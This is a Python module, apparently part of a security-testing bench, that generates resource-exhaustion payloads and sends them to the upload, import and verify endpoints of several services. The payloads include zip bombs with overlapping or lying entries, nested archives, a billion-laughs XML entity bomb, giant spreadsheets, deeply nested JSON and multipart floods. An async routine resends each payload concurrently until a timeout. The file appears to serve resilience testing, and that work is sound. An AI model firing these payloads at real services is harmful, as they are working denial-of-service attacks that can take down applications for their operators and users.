"""Bombs: files and bodies that cost far more to open than to send, made when they are asked for."""

import asyncio
import contextlib
import io
import json
import random
import struct
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from uuid import UUID

from bench.guard.attacks import Attack, Target

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OCTETS, JSON, MULTIPART = "application/octet-stream", "application/json", "multipart/form-data; boundary=b"
AT_ONCE = 12
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


@dataclass(frozen=True)
class Bomb:
    """One request, sent `at_once` times beside each other."""

    path: str
    content_type: str
    body: Callable[[], bytes]
    headers: Mapping[str, str] | None = None
    at_once: int = 1


def workbook(sheet: bytes, strings: bytes = b"<sst/>", sheets: int = 1) -> bytes:
    """A whole workbook; its one sheet is named so many times."""
    names = "".join(f'<sheet name="a{number}" sheetId="{number}" r:id="r1"/>' for number in range(1, sheets + 1))
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" '
        'ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{_RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {_MAIN} xmlns:r="{_RELATIONS}"><sheets>{names}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
        f'Type="{_RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/sharedStrings.xml", strings)
    return buffer.getvalue()


def overlapping_parts(count: int = 2000, size: int = 8 << 20) -> bytes:
    """One packed part that many names of the directory stand for."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", bytes(size))
        first = archive.infolist()[0]
        for number in range(2, count):
            again = zipfile.ZipInfo(f"xl/worksheets/sheet{number}.xml")
            again.compress_type, again.CRC = first.compress_type, first.CRC
            again.compress_size, again.file_size, again.header_offset = first.compress_size, first.file_size, 0
            archive.filelist.append(again)
    return buffer.getvalue()


def zip64_that_lies() -> bytes:
    """A part of 64 MiB that says, in its field of 64 bits, that it has eight bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(64 << 20))
        info = archive.infolist()[0]
        info.extra = struct.pack("<HHQ", 1, 8, 8)
        info.file_size = 0xFFFFFFFF
    return buffer.getvalue()


def shared_string() -> bytes:
    """A string of 1 MiB that 200,000 cells name."""
    row = b"<row>" + b'<c t="s"><v>0</v></c>' * 100 + b"</row>"
    sheet = f"<worksheet {_MAIN}><sheetData>".encode() + row * 2000 + b"</sheetData></worksheet>"
    text = random.Random(1).randbytes(1 << 19).hex()
    return workbook(sheet, f"<sst {_MAIN}><si><t>{text}</t></si></sst>".encode())


def entities() -> bytes:
    """A billion laughs."""
    names = [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(10)]
    text = f"<?xml version='1.0'?><!DOCTYPE w [{''.join(names)}]><worksheet {_MAIN}><sheetData><row><c t='inlineStr'>"
    return workbook(f"{text}<is><t>&e9;</t></is></c></row></sheetData></worksheet>".encode())


def far_cell() -> bytes:
    """Two cells, in the first and in the last place of a sheet."""
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return workbook(f"<worksheet {_MAIN}><sheetData>{cells}</sheetData></worksheet>".encode())


def archives_within_archives(depth: int = 6, copies: int = 16) -> bytes:
    """Each holds the next one many times; the innermost part is 64 MiB."""
    body = bytes(64 << 20)
    for level in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(copies if level else 1):
                archive.writestr(f"word/{number}.xml", body)
        body = buffer.getvalue()
    return body


def packed_by_lzma() -> bytes:
    """16 MiB by a method that cannot be unpacked a piece at a time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", bytes(16 << 20))
    return buffer.getvalue()


def every_column(rows: int = 400) -> bytes:
    """As many columns as a sheet may have, in many rows."""
    row = b"<row>" + b"<c><v>1</v></c>" * 16_384 + b"</row>"
    return workbook(f"<worksheet {_MAIN}><sheetData>".encode() + row * rows + b"</sheetData></worksheet>")


def many_sheets() -> bytes:
    """One sheet of 200,000 cells that 10,000 names stand for."""
    row = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"
    return workbook(
        f"<worksheet {_MAIN}><sheetData>".encode() + row * 2000 + b"</sheetData></worksheet>", sheets=10_000
    )


def many_keys(size: int = 1_000_000) -> bytes:
    """An object of as many keys as fit into a body."""
    return b'{"a":0' + b"".join(b',"%x":0' % number for number in range(size // 9)) + b"}"


def many_parts(size: int) -> bytes:
    """A form of empty parts."""
    part = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    return part * (size // len(part)) + b"--b--\r\n"


def one_cell(size: int = 30 << 20) -> bytes:
    return b'code,name\r\n"' + b"a\r\n" * (size // 3) + b'"\r\n'


def large_csv(size: int = 6 << 20) -> bytes:
    return b"code,name\r\n" + b"A,b\r\n" * (size // 5)


def large_json(size: int = 28 << 20) -> bytes:
    row = json.dumps({f"column_{number}": number for number in range(20)}).encode()
    rows = b",".join([row] * (size // len(row)))
    return b'{"header":{},"sha256":"","approval":null,"tables":{"cameras":[' + rows + b"]}}"


_IMPORT, _VERIFY = "/v1/imports/facilities", "/v1/reports/verify"
_LATER = {"Prefer": "respond-async"}
_PACKED = {"Content-Encoding": "gzip"}
INVENTORY: dict[str, Bomb] = {
    "overlapping parts": Bomb(_IMPORT, XLSX, overlapping_parts),
    "zip64 that lies": Bomb(_IMPORT, XLSX, zip64_that_lies),
    "a shared string": Bomb(_IMPORT, XLSX, shared_string),
    "XML entities": Bomb(_IMPORT, XLSX, entities),
    "a far cell": Bomb(_IMPORT, XLSX, far_cell),
    "a cell of 30 MB": Bomb(_IMPORT, CSV, one_cell),
    "short rows, 31 MB": Bomb(_IMPORT, CSV, lambda: large_csv(31 << 20)),
    "twelve imports": Bomb(_IMPORT, CSV, large_csv, _LATER, AT_ONCE),
    "deep JSON": Bomb("/v1/facilities", JSON, lambda: b"[" * 1_000_000),
    "a long number": Bomb("/v1/facilities", JSON, lambda: b'{"code":' + b"9" * 1_000_000 + b"}"),
    "every column": Bomb(_IMPORT, XLSX, every_column),
    "10,000 sheets": Bomb(_IMPORT, XLSX, many_sheets),
    "archives within archives": Bomb(_IMPORT, XLSX, archives_within_archives),
    "packed by LZMA": Bomb(_IMPORT, XLSX, packed_by_lzma),
    "many keys": Bomb("/v1/facilities", JSON, many_keys),
    "many parts": Bomb(_IMPORT, MULTIPART, lambda: many_parts(6 << 20)),
    "gzip over HTTP": Bomb(_IMPORT, CSV, lambda: bytes(1000), _PACKED),
}
REPORTING: dict[str, Bomb] = {
    "verify overlapping parts": Bomb(_VERIFY, OCTETS, overlapping_parts),
    "verify zip64 that lies": Bomb(_VERIFY, OCTETS, zip64_that_lies),
    "verify XML entities": Bomb(_VERIFY, OCTETS, entities),
    "verify archives within archives": Bomb(_VERIFY, OCTETS, archives_within_archives),
    "verify packed by LZMA": Bomb(_VERIFY, OCTETS, packed_by_lzma),
    "verify many keys": Bomb(_VERIFY, OCTETS, lambda: b'{"header":' + many_keys(5_000_000) + b"}"),
    "verify deep JSON": Bomb(_VERIFY, OCTETS, lambda: b'{"header":' + b"[" * 5_000_000),
    "verify a long number": Bomb(_VERIFY, OCTETS, lambda: b'{"header":' + b"9" * 5_000_000 + b"}"),
    "verify 28 MB of JSON": Bomb(_VERIFY, OCTETS, large_json),
    "verify twelve at once": Bomb(_VERIFY, OCTETS, lambda: large_json(8 << 20), None, AT_ONCE),
}
_STOP = f"/v1/deliveries/{UUID(int=1)}/stop"
FORWARDER: dict[str, Bomb] = {
    "a reason of deep JSON": Bomb(_STOP, JSON, lambda: b"[" * 1_000_000),
    "a reason of many keys": Bomb(_STOP, JSON, many_keys),
}
_FORM, _FILE = "/f/enter", "/acts/upload/facilities"
CONSOLE: dict[str, Bomb] = {
    "a form of many fields": Bomb(_FORM, "application/x-www-form-urlencoded", lambda: b"a&" * 32_000),
    "a form of many parts": Bomb(_FORM, MULTIPART, lambda: many_parts(60_000)),
    "a file of many parts": Bomb(_FILE, MULTIPART, lambda: many_parts(20 << 20)),
    "a file to verify of many parts": Bomb("/reports/verify", MULTIPART, lambda: many_parts(32 << 20)),
    "a policy report of deep JSON": Bomb("/policy-reports", "application/csp-report", lambda: b"[" * 60_000),
}
"""Of a stranger: nobody is signed in."""
BOMBS: Mapping[str, Mapping[str, Bomb]] = {
    "inventory": INVENTORY,
    "reporting": REPORTING,
    "forwarder": FORWARDER,
    "console": CONSOLE,
}
"""By service."""


def attack_of(bomb: Bomb) -> Attack:
    """Send it again and again; who does not get an answer in that time leaves."""
    # Made before anybody watches: some take seconds.
    body = bomb.body()

    async def attack(target: Target, seconds: float) -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while True:
                    await asyncio.gather(*(_send(target, bomb, body) for _ in range(bomb.at_once)))

    return attack


async def _send(target: Target, bomb: Bomb, body: bytes) -> None:
    head = {
        "Host": "a",
        "Authorization": f"Bearer {target.token}",
        "Content-Type": bomb.content_type,
        "Content-Length": str(len(body)),
        "Connection": "close",
        **(bomb.headers or {}),
    }
    lines = "".join(f"{name}: {value}\r\n" for name, value in head.items())
    with contextlib.suppress(OSError):
        reader, writer = await asyncio.open_connection(target.host, target.port)
        with contextlib.closing(writer):
            writer.write(f"POST {bomb.path} HTTP/1.1\r\n{lines}\r\n".encode())
            writer.write(body)
            with contextlib.suppress(ConnectionError):
                await writer.drain()
            await reader.read()
